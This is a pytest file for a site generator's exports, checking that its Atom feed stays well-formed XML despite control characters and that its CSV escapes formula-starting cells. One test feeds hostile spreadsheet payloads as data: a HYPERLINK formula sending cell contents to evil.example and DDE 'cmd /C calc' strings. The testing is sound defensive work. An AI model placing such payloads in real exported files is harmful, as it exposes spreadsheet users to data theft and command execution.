"""What leaves the site for other programs stays safe: the feed is well-formed XML, the CSV holds no formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from xml.etree import ElementTree

import pytest

from tests.conftest import FIXTURES, edit
from versus.data.lookup import Lookup
from versus.data.validate import load_comparison
from versus.pages.changes import every_change
from versus.pages.export import FORMULA_STARTS, comparison_csv, spreadsheet_text
from versus.pages.feed import atom_feed
from versus.pages.publication import Publication

ATOM = "{http://www.w3.org/2005/Atom}"


def test_the_feed_is_well_formed_even_with_characters_xml_cannot_hold():
    """The data's checks refuse these characters; the feed does not rely on it."""
    comparison = load_comparison(FIXTURES / "small")
    hostile = "Alpha\x00\x01\x08\x0b\x1b\x7f\x85\ufffe\uffff\ud800\U0001fffe vs Beta & <b>"
    site = comparison.site.model_copy(update={"title": hostile, "description": hostile})
    comparison = comparison.model_copy(update={"site": site})
    feed = atom_feed(
        comparison,
        every_change(comparison, Lookup.of(comparison)),
        Publication(),
        last_checked=date(2026, 11, 1),
        entry_html=lambda change: change.description(),
    )
    root = ElementTree.fromstring(feed.encode("utf-8"))
    title = root.find(f"{ATOM}title").text
    assert title.startswith("Alpha") and title.endswith("vs Beta & <b>: what changed")
    assert not any(ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F for character in title)


def test_the_feed_keeps_every_character_xml_allows():
    comparison = load_comparison(FIXTURES / "small")
    text = "Ålpha – Альфа\tα “β” 😀 \ue000"
    site = comparison.site.model_copy(update={"title": text})
    feed = atom_feed(
        comparison.model_copy(update={"site": site}),
        [],
        Publication(),
        last_checked=date(2026, 11, 1),
        entry_html=lambda change: change.description(),
    )
    assert ElementTree.fromstring(feed.encode("utf-8")).find(f"{ATOM}title").text == f"{text}: what changed"


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_a_cell_that_would_start_a_formula_gets_a_quote(start):
    assert spreadsheet_text(start + "x") == "'" + start + "x"


@pytest.mark.parametrize("text", ["Alpha", "2.10", "", " =not at the start", "a=b", "—dash", "(1)", "#hash", "%x"])
def test_other_cells_are_left_as_they_are(text):
    assert spreadsheet_text(text) == text


def test_the_csv_of_hostile_data_holds_no_formula(small_data):
    features, subjects = small_data / "features.yml", small_data / "subjects.yml"
    edit(features, "label: Beta Lite", "label: " + json.dumps('=HYPERLINK("https://evil.example/?"&A1,"Click")'))
    edit(features, "label: Alpha Edge", "label: '-2+3'")
    edit(features, "Mobile deployment", "'@SUM(1+1)*cmd|'' /C calc''!A0'")
    edit(features, "explanation: Graph mode hides the Python frames.", "explanation: '+cmd|'' /C calc''!A0'")
    edit(subjects, "name: Alpha", "name: '''quoted'")
    comparison = load_comparison(small_data)
    rows = list(csv.reader(io.StringIO(comparison_csv(comparison))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    shown = {cell.removeprefix("'") for cell in cells if cell.startswith("'")}
    assert shown == {
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "'quoted",
    }
